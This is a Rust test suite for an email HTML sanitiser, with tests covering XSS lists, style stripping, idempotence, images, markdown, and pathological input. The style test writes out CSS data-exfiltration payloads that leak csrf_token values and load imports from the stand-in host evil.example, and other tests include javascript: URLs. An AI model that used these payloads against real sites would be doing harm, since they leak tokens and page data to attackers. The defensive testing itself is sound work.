//! Known ways of smuggling script, style and requests through HTML, and proof that none comes out.

use bedside_codecs::mail::html::{
    MAX_INPUT, html_to_text, markdown_to_html, sanitise, text_to_html,
};
use bedside_testkit::XSS;
use html5ever::tokenizer::{
    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use proptest::prelude::*;
use std::{cell::RefCell, time::Instant};

#[derive(Default)]
struct Tags(RefCell<Vec<Tag>>, RefCell<Vec<String>>);

impl TokenSink for Tags {
    type Handle = ();
    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => self.0.borrow_mut().push(tag),
            Token::CommentToken(text) => self.1.borrow_mut().push(text.to_string()),
            Token::DoctypeToken(_) => self.1.borrow_mut().push("doctype".into()),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

/// What may be in the output, written down apart from the code under test.
const ELEMENTS: &str = " a abbr b bdi bdo blockquote br caption center cite code col colgroup dd del div dl dt em h1 h2 h3 h4 h5 h6 \
    hr i img ins kbd li mark ol p pre q s samp small span strike strong sub sup table tbody td tfoot th thead tr u ul var wbr ";

/// Reads the output with a browser's tokenizer and says what is wrong with it.
fn fault(html: &str) -> Option<String> {
    let tokenizer = Tokenizer::new(Tags::default(), TokenizerOpts::default());
    let queue = BufferQueue::default();
    queue.push_back(html.into());
    let _ = tokenizer.feed(&queue);
    tokenizer.end();
    if let Some(comment) = tokenizer.sink.1.borrow().first() {
        return Some(format!("comment {comment}"));
    }
    for tag in tokenizer.sink.0.borrow().iter() {
        if !ELEMENTS.contains(&format!(" {} ", tag.name)) {
            return Some(format!("element {}", tag.name));
        }
        if tag.kind == TagKind::EndTag && !tag.attrs.is_empty() {
            return Some("attribute on an end tag".into());
        }
        for attr in &tag.attrs {
            let (name, value) = (&*attr.name.local, &*attr.value);
            let ok = match name {
                "href" => {
                    &*tag.name == "a"
                        && ["http://", "https://", "mailto:", "tel:"]
                            .iter()
                            .any(|s| value.to_lowercase().starts_with(s))
                }
                "src" => &*tag.name == "img" && value.starts_with("/files/"),
                "class" => &*tag.name == "span" && value == "remote-image",
                "rel" => value == "noopener noreferrer nofollow",
                "target" => value == "_blank",
                "loading" => value == "lazy",
                "alt" | "title" | "dir" | "lang" | "align" | "valign" | "width" | "height"
                | "colspan" | "rowspan" | "start" => true,
                _ => false,
            };
            if !ok {
                return Some(format!("{} {name}={value}", tag.name));
            }
        }
        let has = |wanted: &str| tag.attrs.iter().any(|a| &*a.name.local == wanted);
        if tag.kind == TagKind::StartTag && &*tag.name == "a" && !(has("rel") && has("target")) {
            return Some("link that may reach back".into());
        }
    }
    None
}

#[expect(
    clippy::unnecessary_wraps,
    reason = "the form the function under test asks for"
)]
fn cid(id: &str) -> Option<String> {
    match id {
        "evil" => Some("javascript:alert(1)".into()),
        "host" => Some("//evil.example/x".into()),
        id => Some(format!("/files/{}", id.len())),
    }
}

#[test]
fn attack_17_46_and_53_nothing_of_the_known_attacks_comes_out() {
    assert!(XSS.len() >= 223);
    let wrappers = [
        "{}",
        "<p>{}</p>",
        "<div><table><tr><td>{}",
        "<b title=\"{}\">x</b>",
        "<a href=\"{}\">x</a>",
        "<svg>{}",
        "<ul><li>{}<li>x</ul>",
    ];
    for attack in XSS {
        for wrapper in wrappers {
            let given = wrapper.replace("{}", attack);
            let clean = sanitise(&given, &cid);
            assert_eq!(fault(&clean.html), None, "{given}\n-> {}", clean.html);
            assert!(
                !clean.html.contains("evil.example/a") || wrapper != "{}",
                "{given}\n-> {}",
                clean.html
            );
        }
        for html in [
            markdown_to_html(attack),
            markdown_to_html(&format!("[x]({attack}) ![y](<{attack}>)")),
            text_to_html(&html_to_text(attack)),
        ] {
            assert_eq!(fault(&html), None, "{attack}\n-> {html}");
        }
        assert_eq!(fault(&text_to_html(attack)), None, "{attack}");
    }
}

/// What reads a page by its styles: none of it comes out, neither as a style nor as what a style of ours would catch.
#[test]
fn attack_18_no_style_comes_out() {
    for attack in [
        "<style>input[name=csrf_token][value^=a]{background:url(//evil.example/a)}</style>",
        "<STYLE type='text/css' media=all>@import url('https://evil.example/a.css');</STYLE>",
        "<style>@import '//evil.example/a'</style><p>words</p>",
        "<style>@font-face{font-family:x;src:url(//evil.example/a);unicode-range:U+41}</style>",
        "<style>meta[content^='a']{display:block;background:url(//evil.example/a)}</style>",
        "<style>:has(input[value^=a]){--x:url(//evil.example/a)}</style>",
        "<svg><style>@import '//evil.example/a'</style></svg>",
        "<math><mtext><style>@import '//evil.example/a'</style></mtext></math>",
        "<noscript><style>@import '//evil.example/a'</style></noscript>",
        "<template><style>@import '//evil.example/a'</style></template>",
        "<select><style>@import '//evil.example/a'</style></select>",
        "<p style=\"background:url(//evil.example/a)\" class=\"btn\" id=\"csrf\">words</p>",
        "<p style='@import \"//evil.example/a\"'>words</p>",
        "<link rel=stylesheet href='//evil.example/a'>",
        "<link rel=preload as=style href='https://evil.example/a'>",
        "<?xml-stylesheet href='//evil.example/a'?><p>words</p>",
        "<table background='//evil.example/a' bgcolor=red><tr><td width=1 background='//evil.example/a'>words</td></tr></table>",
        "<font face='x;}@import \"//evil.example/a\";' color=red>words</font>",
        "<p>words<style",
        "<style><!--</style><p>words</p>--></style>",
        "<sty<style></style>le>p{}</style>",
    ] {
        for html in [
            sanitise(attack, &cid).html,
            sanitise(&format!("<div>{attack}</div>"), &cid).html,
            markdown_to_html(attack),
        ] {
            assert_eq!(fault(&html), None, "{attack}\n-> {html}");
        }
        let html = sanitise(attack, &cid).html;
        for word in [" style=", "class=\"btn", " id=", "background=", "bgcolor"] {
            assert!(!html.contains(word), "{attack}\n-> {html}");
        }
    }
}

#[test]
fn the_check_itself_sees_attacks() {
    let missed: Vec<_> = [
        "<script>x</script>",
        "<p onclick=x>",
        "<p style=x>",
        "<a href=javascript:x>",
        "<img src=https://x>",
        "<!-- x -->",
        "<form>",
        "<a href=https://x.example>x</a>",
        "<p id=x>",
    ]
    .into_iter()
    .filter(|html| fault(html).is_none())
    .collect();
    assert!(missed.is_empty(), "{missed:?}");
}

#[test]
fn reading_it_again_changes_nothing() {
    for attack in XSS {
        // What the desk itself adds is left out of the comparison, and so are two ways of writing
        // one character.
        let clean = |html: &str| {
            sanitise(html, &|_| None)
                .html
                .replace(" class=\"remote-image\"", "")
                .replace(" target=\"_blank\"", "")
                .replace(" rel=\"noopener noreferrer nofollow\"", "")
        };
        let alike = |html: &str| html.replace("&quot;", "\"").replace("&#39;", "'");
        let once = clean(attack);
        let twice = sanitise(&once, &cid);
        assert_eq!(fault(&twice.html), None, "{attack}");
        // Links in links move when they are read again, as the HTML standard has it.
        if !attack.contains("<a><a>") {
            assert_eq!(alike(&clean(&once)), alike(&once), "{attack}");
        }
    }
}

#[test]
fn letters_keep_their_form() {
    let clean = sanitise(
        "<h1 class=x>Hi</h1><p dir=rtl lang=ar style='color:red'>a <b>b</b> <a href=\"https://x.example/?a=1&b=2\">l</a> <a href=tel:+1555>t</a></p>\
         <table><tr><td colspan=2 width=5>x</td></tr></table><ol start=3><li>y</ol>",
        &cid,
    );
    assert_eq!(
        clean.html,
        "<h1>Hi</h1><p dir=\"rtl\" lang=\"ar\">a <b>b</b> <a href=\"https://x.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">l</a> \
         <a href=\"tel:+1555\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">t</a></p><table><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table><ol start=\"3\"><li>y</li></ol>"
    );
    assert!(!clean.had_remote && !clean.simplified);
}

#[test]
fn pictures() {
    let clean = sanitise(
        "<img src='cid:a%40b' alt='a \"b\" <c>' width=20 height=30>",
        &cid,
    );
    assert_eq!(
        clean.html,
        "<img src=\"/files/3\" alt=\"a &quot;b&quot; &lt;c&gt;\" width=\"20\" height=\"30\" loading=\"lazy\">"
    );
    assert!(!clean.had_remote);
    let clean = sanitise("<img src=HTTPS://x.example/a.png alt=logo>", &cid);
    assert_eq!(
        (clean.html.as_str(), clean.had_remote),
        ("<span class=\"remote-image\">logo</span>", true)
    );
    let clean = sanitise("<img src=https://x.example/dot.gif width=1 height=1>", &cid);
    assert_eq!((clean.html.as_str(), clean.had_remote), ("", true));
    let clean = sanitise("<img src=cid:missing alt=scan>", &|_| None);
    assert_eq!(
        (clean.html.as_str(), clean.had_remote),
        ("<span class=\"remote-image\">scan</span>", false)
    );
}

#[test]
fn markdown_of_staff() {
    assert_eq!(
        markdown_to_html(
            "**Hola** <b>x</b>\nlínea\n\n- a\n- b\n\n[l](https://x.example) [bad](javascript:x)"
        ),
        "<p><strong>Hola</strong> &lt;b&gt;x&lt;/b&gt;<br>\nlínea</p>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n\
         <p><a href=\"https://x.example\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">l</a> \
         <a target=\"_blank\" rel=\"noopener noreferrer nofollow\">bad</a></p>\n"
    );
}

#[test]
fn large_and_deep_input_is_shown_as_text_quickly() {
    std::thread::Builder::new()
        .stack_size(256 * 1024)
        .spawn(|| {
            for html in [
                "<div>".repeat(100_000) + "x",
                "<p>word</p>".repeat(MAX_INPUT / 11 + 1),
                "<table><tr><td>".repeat(50_000),
            ] {
                let started = Instant::now();
                let clean = sanitise(&html, &cid);
                assert!(
                    clean.simplified
                        && clean.html.contains(if html.starts_with("<table") {
                            ""
                        } else {
                            "<p>"
                        })
                );
                assert_eq!(fault(&clean.html), None);
                assert!(started.elapsed().as_secs() < 5);
            }
            for piece in [
                "<a href=x><b>",
                "<b a=1>",
                "<b></b>",
                "<p><b>",
                "<font size=1><p></font>",
                "<b><div></b>",
                "<td>",
                "&lt;",
                "<a><table>",
                "<nobr>",
                "<li>",
                "<dd><p>",
            ] {
                let html = piece.repeat(MAX_INPUT / piece.len());
                let started = Instant::now();
                assert_eq!(fault(&sanitise(&html, &cid).html), None);
                assert!(
                    started.elapsed().as_secs() < 10,
                    "{piece} {:?}",
                    started.elapsed()
                );
            }
            for piece in [
                ">",
                "> ",
                "- ",
                "* ",
                "[",
                "![",
                "**",
                "_a ",
                "<",
                "`",
                "1. ",
                "[a](",
                "|",
                "~~",
                "\\",
                "&",
                "  - a\n",
                "> a\n>",
                "| a |\n|-|\n",
            ] {
                let started = Instant::now();
                let html = markdown_to_html(&piece.repeat(200_000 / piece.len()));
                assert_eq!(fault(&html), None);
                assert!(
                    started.elapsed().as_secs() < 10,
                    "{piece} {:?}",
                    started.elapsed()
                );
            }
            let unclosed = (0..150)
                .map(|n| format!("<font color={n}>"))
                .collect::<Vec<_>>()
                .concat();
            let attributes = (0..200_000)
                .map(|n| format!(" a{n}"))
                .collect::<Vec<_>>()
                .concat();
            for html in [
                format!("<p>{unclosed}{}", "<p>x".repeat(50_000)),
                format!("<p{attributes}>x"),
            ] {
                let started = Instant::now();
                assert!(sanitise(&html, &cid).simplified);
                assert!(started.elapsed().as_secs() < 5);
            }
            let steps: String = (0..400).map(|n| " ".repeat(n * 2) + "- a\n").collect();
            assert_eq!(fault(&markdown_to_html(&steps)), None);
        })
        .unwrap()
        .join()
        .unwrap();
}

proptest! {
    #[test]
    fn any_mixture_is_safe(html in "(<(/?)(a|b|p|img|svg|math|style|script|table|td|form|select|template|title|mtext|mglyph|annotation-xml|foreignObject)|>|<!--|-->|<!\\[CDATA\\[| href=| src=| onclick=| style=|javascript:|https://x\\.y|cid:a|\"|'|x| |/|&lt;|&#60;|\\PC){0,40}") {
        let clean = sanitise(&html, &cid);
        prop_assert_eq!(fault(&clean.html), None, "{}", clean.html);
        prop_assert_eq!(fault(&markdown_to_html(&html)), None);
    }
}
